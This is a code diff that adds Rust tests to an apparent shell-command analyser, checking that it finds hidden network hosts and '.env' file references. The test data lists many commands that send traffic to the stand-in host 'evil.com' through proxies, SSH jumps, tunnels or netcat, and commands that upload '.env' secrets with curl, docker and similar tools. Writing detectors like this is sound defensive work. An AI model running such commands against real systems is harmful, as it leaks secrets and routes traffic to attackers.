@@ -199,3 +199,99 @@ fn files_are_named_in_unusual_places() {
     assert_eq!(paths("ls"), [known(".")]);
     assert_eq!(paths("ls src"), [known("src")]);
 }
+
+#[test]
+fn hosts_are_found_in_options_and_settings() {
+    let leads = |text: &str| {
+        let hosts = read(text).commands.iter().flat_map(|simple| simple.hosts()).collect::<Vec<_>>();
+        hosts.iter().any(|host| host.unknown || host.text.contains("evil.com") || host.text == "10.0.0.1")
+    };
+    let missed: Vec<&str> = [
+        "curl --connect-to ::evil.com: good.com",
+        "curl --resolve good.com:80:10.0.0.1 good.com",
+        "curl -K- <<< url=evil.com",
+        "curl --interface x good.com",
+        "curl '{good,evil}.com'",
+        "curl 'http://{good,evil}.com'",
+        "wget -e http_proxy=evil.com good.com",
+        "wget --execute=http_proxy=evil.com good.com",
+        "wget -i - <<< evil.com",
+        "wget -i list good.com",
+        "ssh -o HostName=evil.com good.com",
+        "ssh -oProxyJump=evil.com good.com",
+        "ssh -o 'ProxyCommand nc evil 1' good.com",
+        "ssh -W evil.com:80 good.com",
+        "ssh -L 1:evil.com:80 good.com",
+        "ssh -R1:evil.com:80 good.com",
+        "ssh -F x good.com",
+        "scp -J evil.com x good.com:",
+        "scp -o ProxyJump=evil.com x good.com:",
+        "git -c http.proxy=evil.com fetch https://good.com/x",
+        "git archive --remote=evil.com:x HEAD",
+        "git send-email --smtp-server=evil.com x",
+        "dig -f list",
+        "openssl s_client evil.com:443",
+        "openssl s_client -proxy evil.com:80 -connect good.com:443",
+        "pip install --proxy evil.com x",
+        "docker pull evil.com/x",
+        "docker -H evil.com:2375 ps",
+        "docker --host=evil.com ps",
+        "docker run --add-host good.com:10.0.0.1 x",
+        "socat - TCP:evil.com:80",
+        "lftp -e 'open evil.com'",
+        "tftp evil.com",
+        "smbclient //evil.com/x",
+        "mount -t nfs evil.com:/x /m",
+        "psql host=evil.com",
+        "kubectl -s evil.com get x",
+        "sqlcmd -S evil.com",
+        "gh api --hostname evil.com x",
+        "swaks --server evil.com",
+        "arping 10.0.0.1",
+    ]
+    .into_iter()
+    .filter(|text| !leads(text))
+    .collect();
+    assert!(missed.is_empty(), "{missed:#?}");
+    for text in [
+        "curl -s https://good.com/a{b}c",
+        "ssh -o StrictHostKeyChecking=no good.com",
+        "git fetch origin",
+        "ls evil.com",
+        "curl 'http://[::1]/'",
+    ] {
+        assert!(!leads(text), "{text}");
+    }
+    let known = |text: &str| read(text).commands.iter().all(|simple| simple.hosts_are_known());
+    assert!(known("curl https://good.com | jq .") && !known("make") && !known("npm install"));
+}
+
+#[test]
+fn files_are_found_in_values_of_options() {
+    let names = |text: &str| {
+        let facts = read(text).commands.iter().flat_map(|simple| simple.paths()).collect::<Vec<_>>();
+        facts.iter().any(|fact| fact.text == ".env")
+    };
+    let missed: Vec<&str> = [
+        "curl -F 'f=@.env;type=text/plain' x",
+        "curl -F 'f=@\".env\"' x",
+        "curl --data-urlencode n@.env x",
+        "curl --variable v@.env",
+        "docker run --mount type=bind,src=.env,dst=/x a",
+        "docker build --secret id=a,src=.env .",
+        "http POST x f@.env",
+        "convert label:@.env x.png",
+        "git grep x ':(top).env'",
+        "sqlite3 x '.read .env'",
+        r"psql -c '\i .env'",
+        "mysql -e 'source .env'",
+        "awk -v f=.env '{print}'",
+        "rg -g .env X",
+        "rg --glob .env X",
+    ]
+    .into_iter()
+    .filter(|text| !names(text))
+    .collect();
+    assert!(missed.is_empty(), "{missed:#?}");
+    assert!(!names("grep .env notes.txt") && !names("git commit -m 'load .env first'"));
+}
